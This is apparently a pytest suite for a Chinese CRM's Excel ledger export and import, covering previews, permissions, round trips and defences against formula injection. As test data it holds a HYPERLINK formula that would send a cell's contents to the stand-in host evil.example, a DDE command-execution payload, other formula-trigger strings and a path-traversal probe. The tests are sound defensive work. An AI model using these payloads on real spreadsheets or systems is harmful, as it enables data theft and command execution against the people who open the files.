"""The ledger (项目台账): export to .xlsx, the import template, import with preview and
confirmation, permissions, formula injection, round trips."""

from __future__ import annotations

import io
import re
import tempfile
import time
import zipfile
from collections.abc import Iterable
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from crm.audit.models import AuditEntry
from crm.catalog.models import Carrier
from crm.catalog.services import active_entries
from crm.companies.models import Company
from crm.companies.names import name_key
from crm.core import ServiceError
from crm.ledger import apply as ledger_apply
from crm.ledger.apply import apply_import
from crm.ledger.columns import COLUMNS
from crm.ledger.plan import plan_import
from crm.ledger.reading import read_workbook
from crm.projects import lifecycle
from crm.projects.lifecycle import move_stage
from crm.projects.models import ConflictBasis, Project, ProjectConflict, StageChange
from crm.projects.registration import update_project
from crm.projects.stages import Stage
from tests import factories
from tests.factories import today

HEADERS = [c.header for c in COLUMNS]
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.fixture(autouse=True)
def no_entry_checks(monkeypatch):
    monkeypatch.setattr(lifecycle, "_entry_checks", {stage: [] for stage in Stage})


@pytest.fixture(autouse=True)
def import_folder(app, tmp_path, monkeypatch):
    """Uploads kept between preview and confirmation go to a temporary instance folder."""
    monkeypatch.setattr(app, "instance_path", str(tmp_path))
    return tmp_path / "ledger_imports"


def text(response) -> str:
    return response.get_data(as_text=True)


def count(db_session, model) -> int:
    return db_session.scalar(sa.select(sa.func.count()).select_from(model))


def xlsx(rows: list[dict], headers: list[str] | None = None, formulas=()) -> bytes:
    """A workbook with a header row and one row per dict (keyed by header)."""
    headers = headers or HEADERS
    wb = Workbook()
    ws = wb.active
    ws.append(headers)
    for r, row in enumerate(rows, 2):
        for c, h in enumerate(headers, 1):
            cell = ws.cell(r, c, row.get(h))
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text as typed, even "=..." (formulas come separately)
    for cell, formula in formulas:
        ws[cell] = formula  # a real formula cell
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def new_row(world, n: int, **overrides) -> dict:
    row = {
        "项目名称": f"导入项目{n}",
        "企业名称": f"导入企业{n}有限公司",
        "统一社会信用代码": factories.credit_code(900000 + n),
        "企业来源地": "省外",
        "载体": world.carrier_a.name,
        "产业集群": world.cluster_x.name,
        "招商渠道": world.channel.name,
        "责任人": world.officer_a.display_name,
        "重点项目": "否",
        "阶段": "招引",
        "总投资（万元）": 12345.67,
        "固定资产投资（万元）": 10000,
        "用地面积（亩）": 88.5,
        "预计新增就业（人）": 120,
        "计划签约日期": date(2030, 3, 1),
        "计划开工日期": "2030-06-01",
        "项目简介": "新建生产线",
    }
    row.update(overrides)
    return row


def upload(client, data: bytes, name="台账.xlsx"):
    return client.post(
        "/ledger/import",
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def preview(client, data: bytes):
    """Upload, then open the preview: (its URL, its HTML)."""
    response = upload(client, data)
    assert response.status_code == 302, text(response)[:2000]
    url = response.headers["Location"]
    page = client.get(url)
    assert page.status_code == 200
    return url, text(page)


def import_file(client, data: bytes):
    url, _html = preview(client, data)
    return client.post(url, data={"confirm": "y"})


def export(client, query: str = "") -> tuple:
    response = client.get("/ledger/export" + query)
    assert response.status_code == 200
    return response, load_workbook(io.BytesIO(response.data))


def sheet_rows(wb) -> list[dict]:
    ws = wb.worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def column_widths(ws) -> dict[int, float]:
    """The set widths by column number (equal neighbours may be stored as one range)."""
    return {
        i: dim.width
        for dim in ws.column_dimensions.values()
        if dim.customWidth
        for i in range(dim.min, dim.max + 1)
    }


def assert_headers_styled(ws) -> None:
    """Bold headers, blue where the import reads the column, grey where not; the widths."""
    for i, column in enumerate(COLUMNS, 1):
        cell = ws.cell(1, i)
        assert cell.value == column.header and cell.font.b
        assert cell.fill.fill_type == "solid"
        assert cell.fill.fgColor.rgb[-6:] == ("DCE6F1" if column.imported else "EDEDED")
    assert column_widths(ws) == {i: c.width for i, c in enumerate(COLUMNS, 1)}


# Export --------------------------------------------------------------------------------------


def test_the_export_is_a_ledger_of_the_filtered_list(world, login, db_session):
    project = world.project_a
    project.planned_signed_on = date(2030, 1, 15)
    project.fixed_asset_investment = Decimal("1234.5")
    move_stage(world.officer_a, project, Stage.ATTRACTING)
    db_session.commit()
    client = login(world.admin)
    response, wb = export(client, "?stage=ATTRACTING")

    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert response.headers["Cache-Control"] == "no-store"
    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
    ws = wb.worksheets[0]
    assert ws.title == "项目台账"
    assert [c.value for c in ws[1]] == HEADERS
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(HEADERS)).column_letter}2"
    (row,) = sheet_rows(wb)  # only the project in 招引
    assert row["项目编号"] == project.id
    assert row["项目名称"] == project.name
    assert row["载体"] == world.carrier_a.name
    assert row["阶段"] == "招引"
    assert row["总投资（万元）"] == 50000
    assert row["固定资产投资（万元）"] == 1234.5
    assert row["计划签约日期"] == datetime(2030, 1, 15)
    cells = {c.value: i for i, c in enumerate(ws[1])}
    money = ws.cell(2, cells["总投资（万元）"] + 1)
    assert money.data_type == "n" and money.number_format == "#,##0.00"
    assert ws.cell(2, cells["计划签约日期"] + 1).number_format == "yyyy-mm-dd"
    assert ws.cell(2, cells["登记时间"] + 1).is_date

    info = {r[0]: r[1] for r in wb.worksheets[1].iter_rows(values_only=True)}
    assert wb.worksheets[1].title == "导出信息"
    assert info["阶段"] == "招引"
    assert info["项目数"] == "1"
    assert world.admin.display_name in info["导出人"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d（北京时间）", info["导出时间"])

    entry = db_session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "ledger_exported"))
    assert entry.user_id == world.admin.id
    assert entry.changes["filter"] == {"stage": "ATTRACTING"}


def test_the_list_offers_the_export_with_its_filters(world, login, db_session):
    html = text(login(world.officer_a).get("/projects/?stage=PLANNED&key=1"))
    assert 'href="/ledger/export?stage=PLANNED&amp;key=1"' in html
    assert "导入台账" in html
    assert "导入台账" not in text(login(world.leader).get("/projects/"))


@pytest.mark.parametrize(
    ("role", "names"),
    [
        ("officer_a", {"甲区光伏组件项目"}),
        ("officer_b", {"乙县中药饮片项目"}),
        ("taskforce_y", {"乙县中药饮片项目"}),
        ("leader", {"甲区光伏组件项目", "乙县中药饮片项目"}),
    ],
)
def test_the_export_holds_only_what_the_user_may_read(world, login, role, names):
    _response, wb = export(login(getattr(world, role)))
    assert {r["项目名称"] for r in sheet_rows(wb)} == names


def test_the_export_needs_a_login(client):
    response = client.get("/ledger/export")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_exported_text_never_becomes_a_formula(world, login, db_session):
    world.project_a.name = INJECTION
    world.project_a.description = "+1 -2 @SUM(A1)"
    world.project_a.company.name = "=1+1"
    db_session.commit()
    _response, wb = export(login(world.admin))
    ws = wb.worksheets[0]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    cells = {c.value: i + 1 for i, c in enumerate(ws[1])}
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == world.project_a.id)
    name = ws.cell(row, cells["项目名称"])
    assert name.value == INJECTION and name.data_type == "s" and name.quotePrefix
    assert ws.cell(row, cells["企业名称"]).quotePrefix
    assert ws.cell(row, cells["项目简介"]).value == "+1 -2 @SUM(A1)"


HOSTILE = ["=cmd|' /C calc'!A0", "+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_text_reads_back_as_the_same_text(world, login, db_session, value):
    world.project_a.name = value
    world.project_a.description = value
    db_session.commit()
    response, wb = export(login(world.admin), f"?carrier={world.carrier_a.id}")
    ws = wb.worksheets[0]
    cells = {c.value: i + 1 for i, c in enumerate(ws[1])}
    expected = value.replace("\r", "\n")  # a CR reads back as a line feed, as it always has
    for header in ("项目名称", "项目简介"):
        cell = ws.cell(2, cells[header])
        assert cell.value == expected and cell.data_type == "s" and cell.quotePrefix, header
    plain = ws.cell(2, cells["企业名称"])
    assert plain.value == world.project_a.company.name and not plain.quotePrefix
    with zipfile.ZipFile(io.BytesIO(response.data)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) for n in sheets)


def test_the_export_shows_beijing_time_numbers_and_blanks(world, login, db_session):
    project = world.project_a
    project.created_at = datetime(2026, 1, 31, 17, 5, 42, 123456, tzinfo=UTC)
    project.fixed_asset_investment = Decimal("1234.56")
    project.expected_jobs = 120
    project.description = "第一行\r\n第二行"  # as a browser sends a textarea
    db_session.commit()
    _response, wb = export(login(world.admin), f"?carrier={world.carrier_a.id}")
    ws = wb.worksheets[0]
    assert_headers_styled(ws)
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(COLUMNS)).column_letter}2"
    cells = {c.value: ws.cell(2, i + 1) for i, c in enumerate(ws[1])}
    created = cells["登记时间"]
    assert created.value == datetime(2026, 2, 1, 1, 5)  # Beijing time, to the minute
    assert created.number_format == "yyyy-mm-dd hh:mm"
    for header, value, number_format in (
        ("项目编号", project.id, "0"),
        ("固定资产投资（万元）", 1234.56, "#,##0.00"),
        ("用地面积（亩）", 100, "#,##0.00"),
        ("预计新增就业（人）", 120, "0"),
    ):
        cell = cells[header]
        assert (cell.value, cell.data_type, cell.number_format) == (value, "n", number_format)
    assert cells["项目简介"].value == "第一行\n第二行"
    for header in ("产业链", "签约日期", "实际到位资金（万元）", "下一步"):
        assert cells[header].value is None, header  # empty, not "" or 0

    info = wb["导出信息"]
    assert column_widths(info) == {1: 14, 2: 60}


def test_the_export_info_names_the_filter(world, login, db_session):
    factories.chain(world.cluster_x, "光伏")
    db_session.commit()
    query = (
        f"?q==1%2B1&stage=PLANNED&carrier={world.carrier_a.id}&cluster={world.cluster_x.id}&key=1"
    )
    _response, wb = export(login(world.admin), query)
    ws = wb["导出信息"]
    info = {r[0]: r[1] for r in ws.iter_rows(values_only=True)}
    assert info["搜索"] == "=1+1"
    assert info["阶段"] == "谋划"
    assert info["载体"] == world.carrier_a.name
    assert info["产业集群"] == world.cluster_x.name
    assert info["重点项目"] == "仅重点项目"
    assert info["项目数"] == "0"
    assert info["数据范围"]
    search = next(row[1] for row in ws.iter_rows() if row[0].value == "搜索")
    assert search.data_type == "s" and search.quotePrefix  # the typed search stays text
    assert [c.value for c in wb["项目台账"][1]] == HEADERS
    assert (
        wb["项目台账"].auto_filter.ref
        == f"A1:{wb['项目台账'].cell(1, len(HEADERS)).column_letter}1"
    )

    _response, wb = export(login(world.admin))
    info = {r[0]: r[1] for r in wb["导出信息"].iter_rows(values_only=True)}
    assert info["筛选条件"] == "无（可见范围内的全部项目）"


def test_excel_files_are_written_in_memory(world, login, monkeypatch):
    """No temporary file, anywhere: the export and the template never touch the disk."""

    def refuse(*_args, **_kwargs):
        raise AssertionError("a temporary file was made")

    for name in ("mkstemp", "mkdtemp", "TemporaryFile", "NamedTemporaryFile"):
        monkeypatch.setattr(tempfile, name, refuse)
    client = login(world.admin)
    assert client.get("/ledger/export").status_code == 200
    assert client.get("/ledger/template").status_code == 200


# The template --------------------------------------------------------------------------------


def test_the_template_has_the_headers_and_the_allowed_values(world, login, db_session):
    factories.chain(world.cluster_x, "光伏")
    db_session.commit()
    response = login(world.officer_a).get("/ledger/template")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    wb = load_workbook(io.BytesIO(response.data))
    assert [c.value for c in wb["项目台账"][1]] == HEADERS
    values = {
        col[0].value: [c.value for c in col[1:] if c.value] for col in wb["可选值"].iter_cols()
    }
    assert values["载体"] == [world.carrier_a.name]  # an officer imports into its own only
    assert set(values["产业集群"]) == {world.cluster_x.name, world.cluster_y.name}
    assert values["招商渠道"] == [world.channel.name]
    assert values["阶段"] == ["谋划", "招引"]
    assert "光伏" in values["产业链"]
    assert wb["项目台账"].data_validations.dataValidation
    assert "填写说明" in wb.sheetnames
    admin_values = load_workbook(io.BytesIO(login(world.admin).get("/ledger/template").data))
    # Listed as every choice list of the app lists them (sort order, then name).
    assert [c.value for c in admin_values["可选值"]["A"][1:3]] == [
        c.name for c in active_entries(Carrier)
    ]


def test_the_template_is_ready_to_fill_in(world, login):
    wb = load_workbook(io.BytesIO(login(world.admin).get("/ledger/template").data))
    assert wb.sheetnames == ["项目台账", "可选值", "填写说明"]
    ws = wb["项目台账"]
    assert_headers_styled(ws)
    assert ws.freeze_panes == "A2"
    for i, column in enumerate(COLUMNS, 1):
        if column.kind == "date":  # dates typed in rows 2 to 1001 show as dates
            assert ws.cell(2, i).number_format == "yyyy-mm-dd"
            assert ws.cell(1001, i).number_format == "yyyy-mm-dd"
            assert ws.cell(1002, i).number_format == "General"
            assert ws.cell(2, i).value is None
    values = wb["可选值"]
    titles = [c.value for c in values[1]]
    assert all(c.font.b for c in values[1])
    assert column_widths(values) == dict.fromkeys(range(1, len(titles) + 1), 18)
    rules = {str(rule.sqref): rule for rule in ws.data_validations.dataValidation}
    letters = {c.key: ws.cell(1, i).column_letter for i, c in enumerate(COLUMNS, 1)}
    for key, title in (
        ("carrier", "载体"),
        ("cluster", "产业集群"),
        ("channel", "招商渠道"),
        ("stage", "阶段"),
        ("origin", "企业来源地"),
        ("is_key", "重点项目"),
    ):
        rule = rules.pop(f"{letters[key]}2:{letters[key]}5001")
        source = values.cell(1, titles.index(title) + 1)
        items = [c.value for c in values[source.column_letter][1:] if c.value]
        first, last = f"${source.column_letter}$2", f"${source.column_letter}${len(items) + 1}"
        assert rule.type == "list" and rule.allow_blank
        assert rule.formula1.lstrip("=") in (f"'可选值'!{first}:{last}", f"'可选值'!{first}")
        assert (rule.errorTitle, rule.error) == ("取值无效", "请从下拉列表中选择")
    assert not rules
    notes = {r[0]: r[1] for r in wb["填写说明"].iter_rows(values_only=True) if r[0]}
    assert notes["项目名称"] == "必填。"
    assert notes["登记时间"] == "系统数据（灰色表头），导入时忽略。"
    assert column_widths(wb["填写说明"]) == {1: 22, 2: 80}


# Import: the happy path and the round trips --------------------------------------------------


def test_an_import_is_previewed_then_confirmed(world, login, db_session):
    client = login(world.officer_a)
    data = xlsx([new_row(world, 1), new_row(world, 2, 阶段="")])
    url, html = preview(client, data)
    assert "新建 <strong>2</strong> 个项目（新登记企业 2 家）" in html
    assert count(db_session, Project) == 2  # nothing written by the preview

    response = client.post(url, data={})
    assert response.status_code == 400
    assert "请勾选确认后再导入" in text(response)
    assert count(db_session, Project) == 2

    response = client.post(url, data={"confirm": "y"})
    assert response.status_code == 302
    db_session.expire_all()
    first = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
    second = db_session.scalar(sa.select(Project).where(Project.name == "导入项目2"))
    assert first.stage is Stage.ATTRACTING and second.stage is Stage.PLANNED
    assert first.carrier_id == world.carrier_a.id and first.officer_id == world.officer_a.id
    assert first.total_investment == Decimal("12345.67")
    assert first.land_area == Decimal("88.50") and first.expected_jobs == 120
    assert first.planned_signed_on == date(2030, 3, 1)
    assert first.planned_started_on == date(2030, 6, 1)
    assert first.company.credit_code == factories.credit_code(900001)
    assert first.company.registered_by_carrier_id == world.carrier_a.id
    assert first.company.name_key == "导入企业1"
    history = db_session.scalars(
        sa.select(StageChange).where(StageChange.project_id == first.id)
    ).all()
    assert [(c.from_stage, c.to_stage) for c in history] == [(None, Stage.ATTRACTING)]
    actions = set(db_session.scalars(sa.select(AuditEntry.action)))
    assert {"ledger_imported", "project_created", "company_created"} <= actions
    # Written in bulk, the new projects are found by the search like any other.
    assert "导入项目1" in text(client.get("/projects/?q=导入企业1"))
    # The kept upload is gone: confirming twice does nothing.
    again = client.post(url, data={"confirm": "y"})
    assert again.status_code == 302 and again.headers["Location"] == "/ledger/import"
    assert count(db_session, Project) == 4


def test_export_then_import_changes_nothing(world, login, db_session):
    move_stage(world.officer_a, world.project_a, Stage.ATTRACTING)
    move_stage(
        world.officer_a,
        world.project_a,
        Stage.SIGNED,
        fields={"signed_amount": Decimal(100), "signed_on": today()},
    )
    world.project_a.description = '含有逗号,引号"和换行\n的简介'
    world.project_a.fixed_asset_investment = Decimal("0.1")
    db_session.commit()
    client = login(world.admin)
    _response, wb = export(client)
    first = sheet_rows(wb)
    before = {p.id: (p.version, p.updated_at) for p in db_session.scalars(sa.select(Project))}
    out = io.BytesIO()
    wb.save(out)

    url, html = preview(client, out.getvalue())
    assert "无变化 2 个" in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    db_session.expire_all()
    after = {p.id: (p.version, p.updated_at) for p in db_session.scalars(sa.select(Project))}
    assert after == before
    assert count(db_session, Project) == 2 and count(db_session, Company) == 2
    _response, wb = export(client)
    assert sheet_rows(wb) == first


def test_imported_rows_come_back_out_equal(world, login, db_session):
    client = login(world.officer_a)
    rows = [new_row(world, n) for n in range(1, 4)]
    assert import_file(client, xlsx(rows)).status_code == 302
    _response, wb = export(client, "?q=导入项目")
    exported = {r["项目名称"]: r for r in sheet_rows(wb)}
    for row in rows:
        out = exported[row["项目名称"]]
        for header, value in row.items():
            if isinstance(value, date):
                value = datetime.combine(value, datetime.min.time())
            elif header == "计划开工日期":
                value = datetime.fromisoformat(value)
            assert out[header] == value, header


def test_line_breaks_written_by_excel_are_read_as_line_breaks(world, login, db_session):
    """Excel stores a carriage return in a cell as `_x000D_`: the import reads a line break."""
    import xlsxwriter

    row = new_row(world, 1, 项目简介="第一行\r\n第二行", 计划签约日期="2030-03-01")
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_numbers": False})
    sheet = book.add_worksheet()
    for c, header in enumerate(HEADERS):
        sheet.write_string(0, c, header)
        if (value := row.get(header)) is not None:
            sheet.write(1, c, value)
    book.close()
    raw = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/sharedStrings.xml").decode()
    assert "第一行_x000D_" in raw  # as Excel writes it
    client = login(world.officer_a)
    assert import_file(client, out.getvalue()).status_code == 302
    project = db_session.scalar(sa.select(Project).where(Project.name == row["项目名称"]))
    assert project.description == "第一行\r\n第二行"


def test_importing_the_same_file_twice_does_not_duplicate(world, login, db_session):
    client = login(world.officer_a)
    data = xlsx([new_row(world, 1), new_row(world, 2, 统一社会信用代码=None, 企业来源地="境外")])
    assert import_file(client, data).status_code == 302
    projects, companies = count(db_session, Project), count(db_session, Company)
    url, html = preview(client, data)
    assert "新建 <strong>0</strong> 个项目" in html and "无变化 2 个" in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    assert (count(db_session, Project), count(db_session, Company)) == (projects, companies)


def test_a_changed_row_updates_its_project(world, login, db_session):
    client = login(world.officer_a)
    assert import_file(client, xlsx([new_row(world, 1)])).status_code == 302
    changed = new_row(world, 1, **{"总投资（万元）": "20,000", "重点项目": "是"})
    url, html = preview(client, xlsx([changed]))
    assert "更新 <strong>1</strong> 个" in html
    # Every cell it would change, old → new.
    assert "<div>总投资（万元）：12,345.67 → <strong>20,000.00</strong></div>" in html
    assert "<div>重点项目：否 → <strong>是</strong></div>" in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    db_session.expire_all()
    project = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
    assert project.total_investment == Decimal(20000) and project.is_key
    assert project.version == 2
    entry = db_session.scalar(
        sa.select(AuditEntry).where(
            AuditEntry.action == "project_updated", AuditEntry.object_id == project.id
        )
    )
    assert entry.changes["total_investment"] == ["12345.67", "20000"]


def test_an_import_flags_companies_courted_by_another_carrier(world, login, db_session):
    courted = world.project_b.company
    client = login(world.officer_a)
    row = new_row(
        world, 1, 企业名称=courted.name, 统一社会信用代码=courted.credit_code, 企业来源地=""
    )
    url, html = preview(client, xlsx([row]))
    assert "其他载体正在跟进该企业" in html and world.project_b.name in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    (conflict,) = db_session.scalars(sa.select(ProjectConflict)).all()
    assert conflict.other_project_id == world.project_b.id
    assert conflict.basis is ConflictBasis.CREDIT_CODE
    assert count(db_session, Company) == 2  # the company is reused, not duplicated


def test_an_imported_conflict_is_audited_like_one_registered_at_the_form(world, login, db_session):
    """The ledger registers a conflict through the projects' service: the same
    conflict_detected entry as the project form writes (none was written before)."""
    courted = world.project_b.company
    client = login(world.officer_a)
    row = new_row(
        world, 1, 企业名称=courted.name, 统一社会信用代码=courted.credit_code, 企业来源地=""
    )
    assert import_file(client, xlsx([row])).status_code == 302
    (conflict,) = db_session.scalars(sa.select(ProjectConflict)).all()
    (entry,) = db_session.scalars(
        sa.select(AuditEntry).where(AuditEntry.action == "conflict_detected")
    ).all()
    assert (entry.object_type, entry.object_id, entry.user_id) == (
        "project_conflicts",
        conflict.id,
        world.officer_a.id,
    )
    assert entry.summary == (
        f"导入项目1（{world.carrier_a.name}）与{world.carrier_b.name}的“{world.project_b.name}”："
        "统一社会信用代码相同"
    )
    # The history and the audit of the new project, as the form writes them.
    project = conflict.project
    (first,) = db_session.scalars(
        sa.select(StageChange).where(StageChange.project_id == project.id)
    ).all()
    assert (first.from_stage, first.to_stage, first.changed_by_id) == (
        None,
        Stage.ATTRACTING,
        world.officer_a.id,
    )
    assert db_session.scalar(
        sa.select(sa.func.count()).where(
            AuditEntry.action == "project_created", AuditEntry.object_id == project.id
        )
    )


def _courted_elsewhere(world, name: str, code: str | None) -> Project:
    company = factories.company(name=name, code=code, name_key=name_key(name))
    return factories.project(
        world.carrier_b, world.cluster_y, world.officer_b, world.channel, company
    )


def test_an_import_applies_the_place_rule_of_the_form(world, login, db_session):
    """The same name key in another city is another company: no conflict, as at the form."""
    _courted_elsewhere(world, "亳州市人民医院", None)
    client = login(world.officer_a)
    row = new_row(world, 1, 企业名称="蚌埠市人民医院", 统一社会信用代码=None)
    url, html = preview(client, xlsx([row]))
    assert "其他载体正在跟进该企业" not in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    assert db_session.scalars(sa.select(ProjectConflict)).all() == []


def test_an_import_applies_the_different_codes_rule_of_the_form(world, login, db_session):
    """Two valid, different credit codes are two legal persons, however alike the names."""
    _courted_elsewhere(world, "亳州华佗药业有限公司", factories.credit_code(444001))
    client = login(world.officer_a)
    row = new_row(
        world, 1, 企业名称="华佗药业股份有限公司", 统一社会信用代码=factories.credit_code(444002)
    )
    url, html = preview(client, xlsx([row]))
    assert "其他载体正在跟进该企业" not in html
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    assert db_session.scalars(sa.select(ProjectConflict)).all() == []
    # Without a code in the file the name decides, as at the form.
    row = new_row(world, 2, 企业名称="华佗药业集团有限公司", 统一社会信用代码=None)
    _url, html = preview(client, xlsx([row]))
    assert "其他载体正在跟进该企业" in html


def test_the_preview_lists_the_likely_matches_of_a_new_company(world, login, db_session):
    """A company the file registers anew is shown with the registered companies it may be
    (name, credit code, similarity), so the user can name the existing one instead."""
    code = factories.credit_code(555001)
    name = "亳州华润康达中药饮片有限公司"
    factories.company(name=name, code=code, name_key=name_key(name))
    client = login(world.officer_a)
    row = new_row(world, 1, 企业名称="亳州华润康达中药饮片厂有限公司", 统一社会信用代码=None)
    _url, html = preview(client, xlsx([row]))
    match = re.search(r"企业库中有相近的企业：([^<]*)", html)
    assert match, html[:3000]
    assert "亳州华润康达中药饮片有限公司" in match.group(1) and code in match.group(1)
    assert re.search(r"相似度 \d", match.group(1))
    # A company the file names exactly is no new company: no such warning.
    row = new_row(world, 2, 企业名称="亳州华润康达中药饮片有限公司", 统一社会信用代码=code)
    _url, html = preview(client, xlsx([row]))
    assert "企业库中有相近的企业" not in html


# Import: bad rows -----------------------------------------------------------------------------


BAD_ROWS = [
    ({"载体": "乙县"}, "载体", "招商专员只能导入本载体（甲区）的项目"),
    ({"总投资（万元）": "一百万"}, "总投资（万元）", "应填写数字（单位：万元），“一百万”不是数字"),
    ({"总投资（万元）": None}, "总投资（万元）", "请填写总投资（万元）"),
    ({"用地面积（亩）": -5}, "用地面积（亩）", "不能为负数"),
    ({"预计新增就业（人）": 1.5}, "预计新增就业（人）", "应为整数"),
    ({"统一社会信用代码": "91341600000000001X"}, "统一社会信用代码", "校验位不正确"),
    ({"统一社会信用代码": "123"}, "统一社会信用代码", "应为 18 位"),
    ({"阶段": "签约"}, "阶段", "新项目不能导入为“签约”：只能为谋划或招引"),
    ({"阶段": "投产"}, "阶段", "新项目不能导入为“投产”"),
    ({"状态": "终止"}, "状态", "新项目的状态只能为正常"),
    ({"产业集群": "不存在的集群"}, "产业集群", "没有名为“不存在的集群”的产业集群"),
    ({"产业链": "光伏"}, "产业链", "不是新能源的产业链"),
    ({"招商渠道": ""}, "招商渠道", "请填写招商渠道"),
    ({"责任人": "张三"}, "责任人", "“张三”不是甲区的在岗招商专员"),
    ({"重点项目": "也许"}, "重点项目", "请填写“是”或“否”"),
    ({"计划签约日期": "明年"}, "计划签约日期", "不是有效日期"),
    ({"计划开工日期": "2020-01-01"}, "计划开工日期", "计划开工日期不能早于计划签约日期"),
    ({"固定资产投资（万元）": 99999}, "固定资产投资（万元）", "固定资产投资不能大于总投资"),
    ({"项目名称": INJECTION}, "项目名称", "不能以“=”开头（疑似公式）"),
    ({"企业来源地": ""}, "企业来源地", "新企业须填写企业来源地"),
    ({"项目编号": 999999}, "项目编号", "项目编号 999999 不存在或不在您的权限范围内"),
]


@pytest.mark.parametrize(("change", "column", "message"), BAD_ROWS)
def test_a_bad_row_is_reported_and_nothing_is_written(
    world, login, db_session, change, column, message
):
    client = login(world.officer_a)
    data = xlsx([new_row(world, 1), new_row(world, 2, **change)])
    url, html = preview(client, data)
    match = re.search(
        r'<td class="num">3</td><td>' + re.escape(column) + r"</td><td>([^<]*)</td>", html
    )
    assert match, html[html.find("需要修改") : html.find("需要修改") + 1500]
    assert message in match.group(1)
    assert "确认导入" not in html
    assert client.post(url, data={"confirm": "y"}).status_code == 400
    assert count(db_session, Project) == 2 and count(db_session, Company) == 2


def test_a_refused_import_keeps_nothing_and_may_be_confirmed_again(
    world, login, db_session, monkeypatch
):
    """A refusal at the last step (the audit row of the import) takes every row back."""
    client = login(world.officer_a)
    url, _html = preview(client, xlsx([new_row(world, 1), new_row(world, 2)]))
    audited = count(db_session, AuditEntry)

    def refuse(*_args, **_kwargs):
        raise ServiceError("台账导入暂不可用")

    with monkeypatch.context() as patched:
        patched.setattr(ledger_apply, "record", refuse)
        response = client.post(url, data={"confirm": "y"})
    assert response.status_code == 400
    assert "台账导入暂不可用" in text(response)
    assert count(db_session, Project) == 2 and count(db_session, Company) == 2
    assert count(db_session, AuditEntry) == audited
    # The upload is kept: once the cause is gone, the same preview is confirmed.
    assert client.post(url, data={"confirm": "y"}).status_code == 302
    assert count(db_session, Project) == 4


def test_a_formula_cell_is_refused(world, login, db_session):
    client = login(world.officer_a)
    data = xlsx([new_row(world, 1)], formulas=[("B2", INJECTION), ("P2", "=1+1")])
    _url, html = preview(client, data)
    assert "<td>项目名称</td><td>不能包含公式，请填写数值或文字</td>" in html
    assert "<td>总投资（万元）</td><td>不能包含公式，请填写数值或文字</td>" in html


def test_duplicate_rows_in_one_file_are_reported(world, login, db_session):
    client = login(world.officer_a)
    data = xlsx([new_row(world, 1), new_row(world, 2), new_row(world, 1, 项目简介="又一行")])
    _url, html = preview(client, data)
    assert "<td>项目名称</td><td>与第 2 行重复（同一企业、同一项目）</td>" in html


def test_an_existing_project_keeps_its_stage_status_and_carrier(world, login, db_session):
    project = world.project_a
    db_session.commit()
    client = login(world.admin)
    _response, wb = export(client, f"?carrier={world.carrier_a.id}")
    ws = wb.worksheets[0]
    cells = {c.value: i + 1 for i, c in enumerate(ws[1])}
    ws.cell(2, cells["阶段"]).value = "签约"
    ws.cell(2, cells["状态"]).value = "终止"
    ws.cell(2, cells["载体"]).value = world.carrier_b.name
    out = io.BytesIO()
    wb.save(out)
    _url, html = preview(client, out.getvalue())
    assert "导入不能变更阶段（系统中为“谋划”）" in html
    assert "导入不能变更状态（系统中为“正常”）" in html
    assert "导入不能变更项目所属载体" in html
    db_session.expire_all()
    assert project.stage is Stage.PLANNED


def test_unreadable_files_and_missing_headers(world, login, db_session):
    client = login(world.officer_a)
    response = upload(client, b"not a spreadsheet", "x.xlsx")
    assert response.status_code == 400 and "无法读取该文件" in text(response)
    response = upload(client, xlsx([{"项目名称": "x"}], headers=["项目名称", "备注"]))
    assert response.status_code == 400 and "表头缺少必填列" in text(response)
    response = upload(client, xlsx([]))
    assert response.status_code == 400 and "没有数据行" in text(response)


# Import: permissions and the kept upload -----------------------------------------------------


@pytest.mark.parametrize("role", ["leader", "taskforce_x"])
def test_only_officers_and_admins_import(world, login, role):
    client = login(getattr(world, role))
    assert client.get("/ledger/import").status_code == 403
    assert client.get("/ledger/template").status_code == 403
    assert upload(client, xlsx([new_row(world, 1)])).status_code == 403


def test_an_upload_belongs_to_its_user(world, login, db_session):
    url, _html = preview(login(world.officer_a), xlsx([new_row(world, 1)]))
    other = login(world.admin)
    response = other.get(url)
    assert response.status_code == 302 and response.headers["Location"] == "/ledger/import"
    assert other.post(url, data={"confirm": "y"}).status_code == 302
    assert count(db_session, Project) == 2
    assert login(world.admin).get("/ledger/import/../../secret_key").status_code == 404


def test_an_officer_cannot_update_another_carriers_project(world, login, db_session):
    row = new_row(world, 1, 项目编号=world.project_b.id)
    _url, html = preview(login(world.officer_a), xlsx([row]))
    assert f"项目编号 {world.project_b.id} 不存在或不在您的权限范围内" in html


